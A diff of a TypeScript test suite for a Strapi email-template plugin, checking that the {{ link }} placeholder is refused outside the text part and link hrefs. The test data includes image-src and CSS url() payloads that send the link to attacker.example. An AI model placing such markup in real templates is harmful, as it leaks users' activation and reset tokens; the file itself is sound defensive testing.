@@ -1,6 +1,6 @@
 import { bootStrapi, type TestApp } from '../helpers/strapi';
 import { createAdmin, createAdminRole, type AdminSession } from '../helpers/actors';
-import { waitForStatus, worker } from '../helpers/outbox';
+import { messageCount, waitForStatus, worker } from '../helpers/outbox';
 
 const mailer = (app: TestApp) => app.strapi.plugin('user-communication').service('mailer');
 
@@ -93,6 +93,74 @@ describe('templates', () => {
     expect(response.body.error.name).toBe('ValidationError');
     expect(response.body.error.message).toContain(named);
     expect((await api('get', '/templates/password-reset/en')).body.customized).toBe(false);
+  });
+
+  describe('{{ link }} stands only in the text part and in the href of a link', () => {
+    const activation = {
+      subject: 'Activate your account',
+      html: '<p><a href="{{ link }}">Activate</a></p>',
+      text: 'Activate: {{ link }}',
+    };
+    const misplaced = [
+      ['the subject', { subject: 'Activate: {{link}}' }, 'subject', 'not in the subject'],
+      [
+        'an image',
+        { html: '<img src="https://attacker.example/p?{{   link }}">' },
+        'html',
+        'not in the src of <img>',
+      ],
+      [
+        'a CSS url()',
+        { html: '<td style="background:url(https://attacker.example/?{{ link }})">x</td>' },
+        'html',
+        'not in the style of <td>',
+      ],
+      ['the HTML text', { html: '<p>Copy {{ link }}</p>' }, 'html', 'not in the text of <p>'],
+    ] as const;
+
+    it.each(misplaced)(
+      'refuses to save it in %s, naming the place',
+      async (_label, edit, path, place) => {
+        const response = await api('put', '/templates/activation/en').send({
+          ...activation,
+          ...edit,
+        });
+        expect(response.status).toBe(400);
+        expect(response.body.error.name).toBe('ValidationError');
+        expect(response.body.error.message).toBe(
+          `{{ link }} may only be used in the text part and in the href of a link, ${place}`
+        );
+        expect(response.body.error.details.errors[0].path).toEqual([path]);
+        expect((await api('get', '/templates/activation/en')).body.customized).toBe(false);
+      }
+    );
+
+    it.each(misplaced)(
+      'refuses a draft with it in %s in preview and test-send',
+      async (_label, edit, path, place) => {
+        const queued = await messageCount(app, { type: 'test' });
+        for (const action of ['preview', 'test-send']) {
+          const response = await api('post', `/templates/password-reset/da/${action}`).send({
+            ...activation,
+            ...edit,
+          });
+          expect(response.status).toBe(400);
+          expect(response.body.error.message).toContain(place);
+          expect(response.body.error.details.errors[0].path).toEqual([path]);
+        }
+        expect(await messageCount(app, { type: 'test' })).toBe(queued);
+      }
+    );
+
+    it('saves it in the href of a link and anywhere in the text part', async () => {
+      const response = await api('put', '/templates/no-login-reminder/da').send({
+        subject: 'Kom tilbage',
+        html: '<p><a href="{{link}}">Fortsæt</a></p>',
+        text: '{{ link }}\n\nHej {{ username }}: {{ link }}',
+      });
+      expect(response.status).toBe(200);
+      await api('delete', '/templates/no-login-reminder/da');
+    });
   });
 
   it('rejects an unknown type, a malformed locale and missing fields', async () => {
